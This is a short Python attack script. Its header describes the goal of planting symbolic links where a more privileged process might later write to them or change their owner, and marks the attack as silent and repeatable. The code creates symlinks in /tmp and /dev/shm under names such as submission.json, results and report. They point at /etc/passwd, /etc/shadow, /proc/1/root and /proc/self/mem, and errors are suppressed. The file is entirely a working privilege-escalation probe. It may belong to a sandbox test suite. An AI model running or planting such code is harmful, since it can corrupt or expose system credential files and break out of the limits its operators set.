# /// attack
# tries = "plant links where something with more power might write or change owners later"
# covers = ["leave.owned_later"]
# silent = true
# again = true
# ///
import os

def probe():
    for name in ("submission.json", "results", "report", "output", "core", ".cache", ".numpy"):
        for target in ("/etc/passwd", "/proc/1/root", "/proc/self/mem", "../../../../etc/shadow"):
            for place in ("/tmp", "/dev/shm"):
                path = f"{place}/{name}-{os.path.basename(target)}"
                if os.path.lexists(path):
                    print("found", path)
                try:
                    os.symlink(target, path)
                except OSError:
                    pass
